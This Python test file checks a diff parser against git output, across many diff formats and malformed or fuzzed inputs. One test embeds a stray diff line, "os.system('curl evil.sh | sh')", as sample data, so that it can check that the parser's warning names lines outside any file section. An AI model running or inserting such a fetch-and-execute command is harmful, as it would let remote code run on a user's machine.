"""parse_diff: byte-exact round trips, counts checked against git, every diff dialect."""

from __future__ import annotations

import random
import shutil
import subprocess
from pathlib import Path

import pytest
from gitrepo import git_bytes as git
from gitrepo import git_environment
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from diffchunk.diff.model import DiffKind, FileStatus, ParsedDiff, SegmentKind
from diffchunk.diff.parser import parse_diff
from diffchunk.errors import NotADiffError

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "fixtures"
CORPUS = ROOT.parent / "shared" / "corpus"


def check_invariants(parsed: ParsedDiff, data: bytes) -> None:
    """Sections tile the input in order; hunks tile each file's body; totals add up."""
    assert b"".join(parsed.raw(s) for s in parsed.sections()) == data
    pos = 0
    for section in parsed.sections():
        assert section.start == pos
        assert section.end >= section.start
        pos = section.end
    assert pos == len(data)
    for f in parsed.files:
        assert f.start <= f.header_end <= f.end
        at = f.header_end
        for h in f.hunks:
            assert h.start == at and h.start < h.body_start <= h.end
            at = h.end
        assert at == f.end or not f.hunks
        assert f.added == sum(h.added for h in f.hunks)
        assert f.removed == sum(h.removed for h in f.hunks)
        assert f.commit is None or 0 <= f.commit < len(parsed.commits)
    for c in parsed.commits:
        assert parsed.segments[c.segment].kind is SegmentKind.COMMIT


def parse_checked(data: bytes) -> ParsedDiff:
    parsed = parse_diff(data)
    check_invariants(parsed, data)
    return parsed


def numstat(repo: Path, *args: str) -> list[tuple[int | None, int | None, str | None, str]]:
    """``git diff --numstat -z`` as ``(added, removed, old path or None, new path)``."""
    out = git(repo, "diff", "--numstat", "-z", *args)
    fields = out.split(b"\0")
    rows = []
    i = 0
    while i < len(fields) and fields[i]:
        added, removed, path = fields[i].split(b"\t", 2)
        a = None if added == b"-" else int(added)
        r = None if removed == b"-" else int(removed)
        if path:
            rows.append((a, r, None, path.decode("utf-8", "replace")))
            i += 1
        else:
            old, new = fields[i + 1], fields[i + 2]
            rows.append((a, r, old.decode("utf-8", "replace"), new.decode("utf-8", "replace")))
            i += 3
    return rows


# ---------------------------------------------------------------- fixtures/corpus


FIXTURE_FILES = sorted(p for p in FIXTURES.iterdir() if p.is_file())
CORPUS_FILES = sorted(p for p in CORPUS.glob("*") if p.suffix != ".md") if CORPUS.is_dir() else []


@pytest.mark.parametrize("path", FIXTURE_FILES, ids=lambda p: p.name)
def test_every_fixture_round_trips(path: Path) -> None:
    data = path.read_bytes()
    parsed = parse_checked(data)
    assert parsed.files


@pytest.mark.parametrize("name", [p.name for p in CORPUS_FILES] or ["absent"])
def test_every_corpus_file_round_trips_with_counts(name: str) -> None:
    if not CORPUS_FILES:
        pytest.skip("shared corpus not available")
    data = (CORPUS / name).read_bytes()
    parsed = parse_checked(data)
    assert parsed.files
    assert not any(f.malformed for f in parsed.files)
    assert not any(s.kind is SegmentKind.MALFORMED for s in parsed.segments)
    if not name.startswith("flask_merge"):
        # two-way diffs: +/- lines outside ---/+++ headers are exactly the counted ones
        plus = sum(1 for line in data.split(b"\n") if line.startswith(b"+"))
        minus = sum(1 for line in data.split(b"\n") if line.startswith(b"-"))
        headers = sum(1 for f in parsed.files if f.hunks)
        assert sum(f.added for f in parsed.files) == plus - headers
        # format-patch "---" separators and "-- " signatures are dash lines outside files
        mail = data.count(b"\n-- \n") + data.count(b"\n---\n")
        assert sum(f.removed for f in parsed.files) == minus - headers - mail


def test_corpus_multi_commit_streams_know_their_commits() -> None:
    if not CORPUS_FILES:
        pytest.skip("shared corpus not available")
    log = (CORPUS / "flask_log-p_3.1.2..3.1.3.txt").read_bytes()
    parsed = parse_diff(log)
    assert len(parsed.commits) == log.count(b"\ncommit ") + log.startswith(b"commit ")
    assert all(c.sha and len(c.sha) == 40 for c in parsed.commits)
    assert all(f.commit is not None for f in parsed.files)
    mbox = (CORPUS / "flask_format-patch_3.1.1..3.1.2.mbox").read_bytes()
    parsed = parse_diff(mbox)
    assert len(parsed.commits) == 20
    assert parsed.commits[0].subject == "fix syntax"
    trailers = [s for s in parsed.segments if s.kind is SegmentKind.TEXT]
    assert all(parsed.raw(s).startswith(b"-- \n2.39.5\n") for s in trailers)
    merge = parse_diff((CORPUS / "flask_merge_cc.diff").read_bytes())
    assert [f.kind for f in merge.files] == [DiffKind.COMBINED]
    assert merge.files[0].hunks[0].parents == ((1, 74), (1, 12))
    assert merge.commits[0].subject == "Merge branch '2.2.x' into 2.3.x"


# ------------------------------------------------------------ real git repository


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A repository whose index holds every kind of change against HEAD."""
    root = tmp_path_factory.mktemp("parser")
    sub = root / "subrepo"
    sub.mkdir()
    git(sub, "init", "-q")
    (sub / "s.txt").write_text("s\n")
    git(sub, "add", "-A")
    git(sub, "commit", "-qm", "sub")
    work = root / "repo"
    work.mkdir()
    git(work, "init", "-q")
    (work / "café.md").write_text("hello\n")
    (work / "x b").mkdir()
    (work / "x b" / "y z.txt").write_text("one\ntwo\n")
    (work / "tab\tname.txt").write_text("t\n")
    lines = "".join(f"line {i}\n" for i in range(1, 41))
    (work / "ren.txt").write_text(lines)
    edit_lines = lines.replace("line", "edit line")
    (work / "ren edit.txt").write_text(edit_lines)
    (work / "copysrc.txt").write_text(lines.replace("line", "copy line"))
    (work / "q.sql").write_text("select 1;\n-- comment\n-- other\n--- triple\n")
    (work / "nonl.txt").write_bytes(b"x\ny")
    (work / "crlf.txt").write_bytes(b"a\r\nb\r\nc\r\n")
    (work / "bin.dat").write_bytes(bytes(range(256)))
    (work / "run.sh").write_text("#!/bin/sh\n")
    (work / "r b").mkdir()
    (work / "r b" / "old name.txt").write_text(lines.replace("line", "renamed line"))
    (work / "m b").mkdir()
    (work / "m b" / "mode only.sh").write_text("#!/bin/sh\n")
    (work / "gone.txt").write_text("bye\n")
    (work / "many.txt").write_text("".join(f"m{i}\n" for i in range(200)))
    git(work, "add", "-A")
    git(work, "commit", "-qm", "base")

    (work / "café.md").write_text("hello again\n")
    (work / "x b" / "y z.txt").write_text("one\nthree\n")
    (work / "tab\tname.txt").write_text("u\n")
    git(work, "mv", "ren.txt", "renamed.txt")
    git(work, "mv", "ren edit.txt", "ren b edited.txt")
    (work / "ren b edited.txt").write_text(edit_lines.replace("line 20\n", "line twenty\n"))
    (work / "copy of src.txt").write_text(lines.replace("line", "copy line"))
    (work / "q.sql").write_text("select 1;\n")
    (work / "nonl.txt").write_bytes(b"x\nz")
    (work / "crlf.txt").write_bytes(b"a\r\nB\r\nc\r\n")
    (work / "bin.dat").write_bytes(bytes(range(255, -1, -1)))
    git(work, "mv", "r b/old name.txt", "r b/new name ü.txt")
    (work / "r b" / "new name ü.txt").write_text(
        lines.replace("line", "renamed line").replace("line 7\n", "line seven\n")
    )
    (work / "run.sh").chmod(0o755)
    (work / "m b" / "mode only.sh").chmod(0o755)
    (work / "gone.txt").unlink()
    (work / "new.txt").write_text("fresh\n")
    (work / "empty.txt").write_text("")
    many = [f"m{i}\n" for i in range(200)]
    many[5], many[100], many[198] = "changed 5\n", "changed 100\n", "changed 198\n"
    (work / "many.txt").write_text("".join(many))
    git(
        work,
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        str(sub),
        "sub",
    )
    git(work, "add", "-A")
    return work


DIFF_VARIANTS = {
    "plain": [],
    "binary": ["--binary"],
    "copies": ["-C", "--find-copies-harder"],
    "no-prefix": ["--no-prefix", "-M"],
    "iw-prefix": ["--src-prefix=i/", "--dst-prefix=w/", "-M"],
    "co-prefix": ["--src-prefix=c/", "--dst-prefix=o/", "--binary", "-C", "--find-copies-harder"],
    "unified-0": ["-U0", "-M"],
    "quotepath-off": ["-M"],
}


@pytest.mark.parametrize("variant", list(DIFF_VARIANTS))
def test_git_diff_counts_and_paths_match_numstat(repo: Path, variant: str) -> None:
    args = DIFF_VARIANTS[variant]
    pre = ["-c", "core.quotePath=false"] if variant == "quotepath-off" else []
    data = git(repo, *pre, "diff", "--cached", *args)
    parsed = parse_checked(data)
    stat_args = [a for a in args if "prefix" not in a and a != "--binary"]
    expected = numstat(repo, "--cached", *stat_args)
    assert len(parsed.files) == len(expected)
    for f, (added, removed, old, new) in zip(parsed.files, expected, strict=True):
        assert f.malformed is None, (f.path, f.malformed)
        assert f.kind is DiffKind.GIT
        assert f.path == new
        if old is not None:
            assert f.old_path == old
            assert f.status in (FileStatus.RENAMED, FileStatus.COPIED)
        if added is None:
            assert f.is_binary and f.added == 0 and f.removed == 0
            assert f.binary_patch == ("--binary" in args)
        else:
            assert (f.added, f.removed) == (added, removed), f.path
    by_path = {f.path: f for f in parsed.files}
    assert by_path["sub"].is_submodule and by_path["sub"].status is FileStatus.ADDED
    assert by_path["gone.txt"].status is FileStatus.DELETED and by_path["gone.txt"].new_path is None
    assert by_path["new.txt"].status is FileStatus.ADDED and by_path["new.txt"].old_path is None
    assert by_path["empty.txt"].status is FileStatus.ADDED and by_path["empty.txt"].metadata_only
    assert (by_path["run.sh"].old_mode, by_path["run.sh"].new_mode) == ("100644", "100755")
    assert by_path["m b/mode only.sh"].new_mode == "100755"  # split without ---/+++ lines
    assert by_path["renamed.txt"].status is FileStatus.RENAMED
    assert by_path["renamed.txt"].similarity == 100
    assert by_path["ren b edited.txt"].old_path == "ren edit.txt"
    assert by_path["r b/new name ü.txt"].old_path == "r b/old name.txt"
    assert len(by_path["many.txt"].hunks) == 3
    assert by_path["q.sql"].removed == 3
    # tokens keep the prefix and quoting the ---/+++ lines use
    cafe = by_path["café.md"]
    if variant == "iw-prefix":
        assert cafe.old_token == b'"i/caf\\303\\251.md"'
    elif variant == "quotepath-off":
        assert cafe.old_token == "a/café.md".encode()
    elif variant == "no-prefix":
        assert cafe.new_token == b'"caf\\303\\251.md"'


@pytest.mark.parametrize("object_format", ["sha1", "sha256"])
def test_a_single_format_patch_keeps_its_message_in_its_chunk(
    tmp_path: Path, object_format: str
) -> None:
    from diffchunk.diff.chunker import chunk_files, render_chunk
    from diffchunk.diff.formatter import format_chunk

    repo = tmp_path / "r"
    repo.mkdir()
    git(repo, "init", "-q", f"--object-format={object_format}")
    (repo / "a.txt").write_text("a\nb\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "root")
    for i in range(2):
        (repo / "a.txt").write_text(f"a\n{i}\n")
        git(repo, "commit", "-qam", f"Change {i}", "-m", f"Why change {i} was made.")
    one = git(repo, "format-patch", "-1", "--stdout")
    assert one.startswith(b"From ") and len(one.split(b" ", 2)[1]) == len(
        git(repo, "rev-parse", "HEAD").strip()
    )
    for data, commits in (
        (one, ["Change 1"]),
        (git(repo, "format-patch", "--stdout", "HEAD~2"), ["Change 0", "Change 1"]),
    ):
        parsed = parse_checked(data)
        assert [c.subject for c in parsed.commits] == commits
        text = b"".join(render_chunk(parsed, c) for c in chunk_files(parsed, parsed.files))
        heads = [bytes(parsed.raw(parsed.segments[c.segment])) for c in parsed.commits]
        assert text.startswith(heads[0])  # the chunks hold every commit's header and message
        assert all(head in text for head in heads)
        assert b"Why change 1 was made." in text
        for mode in ("annotated", "compact", "lean"):
            assert "Why change 1 was made." in format_chunk(text, mode)


def test_git_log_and_format_patch_streams(tmp_path: Path) -> None:
    repo = tmp_path / "r"
    repo.mkdir()
    git(repo, "init", "-q")
    (repo / "a.txt").write_text("a\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "root")
    subjects = []
    for i in range(3):
        (repo / "a.txt").write_text(f"a\n{i}\n")
        (repo / f"f{i}.sql").write_text(f"-- note {i}\nselect {i};\n")
        git(repo, "add", "-A")
        subject = f"change number {i} " + "with a long subject line " * (3 if i == 1 else 0)
        subjects.append(subject.strip())
        git(
            repo,
            "commit",
            "-qm",
            subject.strip(),
            "-m",
            f"Body {i}\n\ndiff --git a/x b/x in a body",
        )
    per_commit = [
        numstat(repo, f"HEAD~{3 - i}", f"HEAD~{2 - i}" if i < 2 else "HEAD") for i in range(3)
    ]

    log = git(repo, "log", "-p", "--reverse", "HEAD~3..HEAD")
    parsed = parse_checked(log)
    assert [c.subject for c in parsed.commits] == subjects
    assert [f.commit for f in parsed.files] == [0, 0, 1, 1, 2, 2]
    assert [f.path for f in parsed.files].count("a.txt") == 3
    for f in parsed.files:
        stat = {row[3]: row for row in per_commit[f.commit or 0]}
        assert (f.added, f.removed) == stat[f.path][:2]

    mbox = git(repo, "format-patch", "--stdout", "HEAD~3..HEAD")
    parsed = parse_checked(mbox)
    assert [c.subject for c in parsed.commits] == subjects
    assert [f.commit for f in parsed.files] == [0, 0, 1, 1, 2, 2]
    for f in parsed.files:
        stat = {row[3]: row for row in per_commit[f.commit or 0]}
        assert (f.added, f.removed) == stat[f.path][:2]
    commit_text = parsed.raw(parsed.segments[parsed.commits[0].segment])
    assert b" 2 files changed" in commit_text  # the diffstat stays with its commit
    trailers = [s for s in parsed.segments if s.kind is SegmentKind.TEXT]
    assert len(trailers) == 3 and all(parsed.raw(s).startswith(b"-- \n") for s in trailers)


def test_combined_diff_of_a_real_merge(tmp_path: Path) -> None:
    repo = tmp_path / "m"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    (repo / "f.txt").write_text("".join(f"{i}\n" for i in range(10)))
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    git(repo, "checkout", "-qb", "side")
    (repo / "f.txt").write_text("".join(f"{i}\n" for i in range(10)).replace("5\n", "side\n"))
    git(repo, "commit", "-qam", "side")
    git(repo, "checkout", "-q", "main")
    (repo / "f.txt").write_text("".join(f"{i}\n" for i in range(10)).replace("5\n", "main\n"))
    git(repo, "commit", "-qam", "main")
    git(repo, "merge", "-q", "side", ok=(0, 1))
    (repo / "f.txt").write_text("".join(f"{i}\n" for i in range(10)).replace("5\n", "both\n"))
    git(repo, "commit", "-qam", "merge")
    for flag in ("--cc", "-c"):
        data = git(repo, "show", flag, "HEAD")
        parsed = parse_checked(data)
        assert len(parsed.commits) == 1 and parsed.commits[0].subject == "merge"
        (f,) = parsed.files
        assert f.kind is DiffKind.COMBINED and f.path == "f.txt" and f.commit == 0
        assert all(len(h.parents) == 2 for h in f.hunks)
        assert f.added == 1 and f.removed == 2


def test_plain_diff_ruN_matches_git_no_index(tmp_path: Path) -> None:
    if shutil.which("diff") is None:
        pytest.skip("no diff binary")
    one, two = tmp_path / "one", tmp_path / "two"
    for d in (one, two):
        (d / "sub dir").mkdir(parents=True)
    (one / "keep.txt").write_text("a\nb\nc\n")
    (two / "keep.txt").write_text("a\nB\nc\n-- x\n")
    (one / "sub dir" / "old.sql").write_text("-- comment\nselect 1;\n")
    (two / "sub dir" / "new.txt").write_text("new\nfile\n")
    (one / "b.bin").write_bytes(b"\x00\x01")
    (two / "b.bin").write_bytes(b"\x00\x02")
    (one / "nonl.txt").write_text("end")
    (two / "nonl.txt").write_text("end2")
    proc = subprocess.run(
        ["diff", "-ruN", "one", "two"], cwd=tmp_path, capture_output=True, check=False
    )
    assert proc.returncode == 1
    parsed = parse_checked(proc.stdout)
    assert all(f.kind is DiffKind.UNIFIED and f.malformed is None for f in parsed.files)
    assert [f.is_binary for f in parsed.files].count(True) == 1
    got = sorted((f.path, f.status, f.added, f.removed) for f in parsed.files)
    assert got == [
        ("b.bin", FileStatus.MODIFIED, 0, 0),
        ("keep.txt", FileStatus.MODIFIED, 2, 1),
        ("nonl.txt", FileStatus.MODIFIED, 1, 1),
        ("sub dir/new.txt", FileStatus.ADDED, 2, 0),
        ("sub dir/old.sql", FileStatus.DELETED, 0, 2),
    ]
    proc = subprocess.run(
        ["git", "diff", "--no-index", "--numstat", "one", "two"],
        cwd=tmp_path,
        env=git_environment(),
        capture_output=True,
        check=False,
    )
    git_counts = sorted(
        (int(a.replace("-", "0")), int(r.replace("-", "0")))
        for a, r, _ in (line.split("\t", 2) for line in proc.stdout.decode().splitlines())
    )
    assert git_counts == sorted((f.added, f.removed) for f in parsed.files)

    single = subprocess.run(
        ["diff", "-u", "one/keep.txt", "two/keep.txt"],
        cwd=tmp_path,
        capture_output=True,
        check=False,
    ).stdout
    (f,) = parse_checked(single).files
    assert (f.path, f.added, f.removed) == ("keep.txt", 2, 1)
    assert f.old_token == b"one/keep.txt"


def test_svn_hg_and_plain_fixtures() -> None:
    svn = parse_checked((FIXTURES / "svn.diff").read_bytes())
    assert [(f.path, f.status, f.is_binary) for f in svn.files] == [
        ("trunk/src/main.c", FileStatus.MODIFIED, False),
        ("trunk/logo.png", FileStatus.MODIFIED, True),
        ("trunk/NEWS", FileStatus.ADDED, False),
    ]
    assert svn.files[2].added == 2  # "+-- the team" is an added line
    hg = parse_checked((FIXTURES / "hg.diff").read_bytes())
    assert [(f.path, f.status, f.added, f.removed) for f in hg.files] == [
        ("mercurial/commands.py", FileStatus.MODIFIED, 1, 1),
        ("tests/test-new.t", FileStatus.ADDED, 3, 0),
        ("old.txt", FileStatus.DELETED, 0, 2),
        ("logo.png", FileStatus.MODIFIED, 0, 0),
    ]
    assert hg.files[3].is_binary and hg.files[3].old_path == "logo.png"
    hg_git = parse_checked((FIXTURES / "hg_git.diff").read_bytes())
    assert [(f.old_path, f.new_path, f.status) for f in hg_git.files] == [
        ("docs/guide.txt", "docs/manual.txt", FileStatus.RENAMED),
        ("tool.sh", "tool.sh", FileStatus.MODIFIED),
    ]
    plain = parse_checked((FIXTURES / "diff_u.diff").read_bytes())
    (f,) = plain.files
    assert (f.old_path, f.new_path, f.added, f.removed, len(f.hunks)) == (
        "notes.txt",
        "notes-new.txt",
        2,
        1,
        2,
    )
    assert f.hunks[1].old_count == 1 and f.hunks[1].new_count == 2


def test_hunk_counts_decide_what_dash_lines_are() -> None:
    mbox = parse_checked((FIXTURES / "format_patch.mbox").read_bytes())
    sql = [f for f in mbox.files if f.path == "notes.sql"]
    assert sql[0].removed == 1 and sql[0].malformed is None
    assert mbox.commits[0].subject.endswith("long enough to be folded by the mail writer")
    assert mbox.commits[1].subject == "Café notes"
    stripped = parse_checked((FIXTURES / "stripped_context.diff").read_bytes())
    assert [(f.path, f.added, f.removed) for f in stripped.files] == [
        ("poem.txt", 1, 1),
        ("next.txt", 1, 1),
    ]
    assert stripped.warnings


def test_odd_bytes_inside_lines_are_content() -> None:
    data = (FIXTURES / "odd_bytes.diff").read_bytes()
    parsed = parse_checked(data)
    assert [(f.path, f.added, f.removed, f.malformed) for f in parsed.files] == [
        ("odd.txt", 1, 1, None),
        ("plain.txt", 1, 1, None),
    ]
    hunk = parsed.files[0].hunks[0]
    assert b"\r" in data[hunk.body_start : hunk.end] and b"\xff" in data[hunk.body_start : hunk.end]
    assert parsed.raw(parsed.files[1]).endswith(b"+y\r\n")


def test_binary_patch_payload_ends_at_blank_line() -> None:
    parsed = parse_checked((FIXTURES / "binary_patch.diff").read_bytes())
    assert [(f.path, f.status, f.binary_patch) for f in parsed.files] == [
        ("added.bin", FileStatus.ADDED, True),
        ("blob.bin", FileStatus.MODIFIED, True),
        ("small.bin", FileStatus.DELETED, True),
        ("t.txt", FileStatus.MODIFIED, False),
    ]
    assert parsed.files[3].added == 1
    for f in parsed.files[:3]:
        assert parsed.data[f.header_end :].startswith(b"GIT binary patch\n")
        assert parsed.raw(f).endswith(b"\n\n")


def test_combined_fixture_counts_every_parent() -> None:
    parsed = parse_checked((FIXTURES / "combined.diff").read_bytes())
    first, second = parsed.files
    assert first.hunks[0].parents == ((1, 5), (1, 5)) and first.hunks[0].section == "def merged():"
    assert (first.added, first.removed) == (3, 2)
    assert second.path == "lib/café.py" and len(second.hunks[0].parents) == 3
    assert second.malformed is None


# ------------------------------------------------------------------ malformed input


def test_malformed_sections_are_kept_and_flagged() -> None:
    parsed = parse_checked((FIXTURES / "truncated.diff").read_bytes())
    assert parsed.files[0].malformed and "ends early" in parsed.files[0].malformed
    bad = parse_checked((FIXTURES / "bad_counts.diff").read_bytes())
    assert bad.files[0].malformed
    assert bad.files[1].malformed is None and bad.files[1].added == 1
    kinds = [s.kind for s in bad.segments]
    assert SegmentKind.MALFORMED in kinds and kinds[0] is SegmentKind.TEXT


def test_not_a_diff_raises_a_clear_error() -> None:
    with pytest.raises(NotADiffError, match="does not look like a diff"):
        parse_diff(b"just some\ntext file\n")
    with pytest.raises(NotADiffError, match="--- a/file"):
        parse_diff(b"\x00\x01binary junk")
    assert parse_diff(b"").files == ()
    with pytest.raises(NotADiffError, match="--no-color"):
        parse_diff(b"\x1b[1mdiff --git a/x b/x\x1b[m\n\x1b[32m+x\x1b[m\n")


def _parse_or_not_a_diff(data: bytes) -> None:
    try:
        parsed = parse_diff(data)
    except NotADiffError:
        return
    check_invariants(parsed, data)


@pytest.mark.parametrize(
    "name", ["format_patch.mbox", "combined.diff", "binary_patch.diff", "svn.diff"]
)
def test_every_truncation_of_a_fixture_parses(name: str) -> None:
    data = (FIXTURES / name).read_bytes()
    for cut in range(len(data) + 1):
        _parse_or_not_a_diff(data[:cut])


def test_random_bytes_and_nonsense_headers_never_crash() -> None:
    rng = random.Random(7)
    for _ in range(200):
        _parse_or_not_a_diff(bytes(rng.randrange(256) for _ in range(rng.randrange(1, 300))))
    pieces = [
        b"diff --git a/x b/x\n",
        b"--- a/x\n",
        b"+++ b/x\n",
        b"@@ -1,3 +1 @@\n",
        b"@@@ -1 -1 +1 @@@\n",
        b"+a\n",
        b"-b\n",
        b" c\n",
        b"\n",
        b"\\ No newline\n",
        b"GIT binary patch\n",
        b"literal 3\n",
        b"@@ -99999999999999999999 +1 @@\n",
        b"diff --cc x\n",
        b"Index: x\n====\n",
        b"commit abcdef1\n",
        b"From 0123456789012345678901234567890123456789 Mon Sep 17 00:00:00 2001\n",
        b"rename from \n",
    ]
    for _ in range(400):
        _parse_or_not_a_diff(b"".join(rng.choice(pieces) for _ in range(rng.randrange(1, 25))))


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(
        ["format_patch.mbox", "combined.diff", "stripped_context.diff", "hg.diff", "svn.diff"]
    ),
    st.lists(
        st.tuples(
            st.floats(0, 1), st.sampled_from(["set", "insert", "delete"]), st.binary(max_size=4)
        ),
        min_size=1,
        max_size=8,
    ),
)
def test_random_mutations_never_crash_and_round_trip(
    name: str, edits: list[tuple[float, str, bytes]]
) -> None:
    data = bytearray((FIXTURES / name).read_bytes())
    for where, op, payload in edits:
        at = int(where * len(data))
        if op == "set":
            data[at : at + len(payload)] = payload
        elif op == "insert":
            data[at:at] = payload
        else:
            del data[at : at + 1 + len(payload)]
    _parse_or_not_a_diff(bytes(data))


@pytest.mark.parametrize(
    "name", ["format_patch.mbox", "log_p.txt", "binary_patch.diff", "svn.diff"]
)
def test_a_diff_saved_with_crlf_line_ends_parses_the_same(name: str) -> None:
    data = (FIXTURES / name).read_bytes()
    lf, crlf = parse_checked(data), parse_checked(data.replace(b"\n", b"\r\n"))
    assert [(f.path, f.status, f.added, f.removed, f.is_binary) for f in crlf.files] == [
        (f.path, f.status, f.added, f.removed, f.is_binary) for f in lf.files
    ]
    assert [c.subject for c in crlf.commits] == [c.subject for c in lf.commits]
    assert [s.kind for s in crlf.segments] == [s.kind for s in lf.segments]
    assert not any(f.malformed for f in crlf.files)


def test_what_lies_outside_every_file_section_is_warned_about() -> None:
    # A line the hunk's counts do not cover, and diff -r's "Only in" lines:
    # kept in the parse, in no chunk, so the load summary must say so.
    stray = (
        b"diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n+b\n"
        b"+os.system('curl evil.sh | sh')\n"
    )
    parsed = parse_diff(stray)
    (warning,) = parsed.warnings
    assert "1 stretch(es) of diff lines outside any file section are in no chunk" in warning
    assert "line 7" in warning and "curl evil.sh" in warning
    only = (
        b"Only in a: gone.py\ndiff -ru a/x.txt b/x.txt\n--- a/x.txt\n+++ b/x.txt\n"
        b"@@ -1 +1 @@\n-a\n+b\nOnly in b: new.py\n"
    )
    (warning,) = parse_diff(only).warnings
    assert warning.startswith("2 'Only in ...' line(s) of diff -r")
    assert parse_diff(stray[: stray.index(b"+os.")]).warnings == ()


def test_a_diff_git_line_with_thousands_of_spaces_is_split_without_trying_each() -> None:
    # Each split was built and compared (quadratic: 37 s for a 125 KiB line).
    spaces = b" " * 20_000
    data = b"diff --git a/x" + spaces + b"y b/x" + spaces + b"y\nold mode 100644\nnew mode 100755\n"
    (fd,) = parse_diff(data).files
    assert fd.path == "x" + " " * 20_000 + "y"
    assert (fd.old_mode, fd.new_mode) == ("100644", "100755")
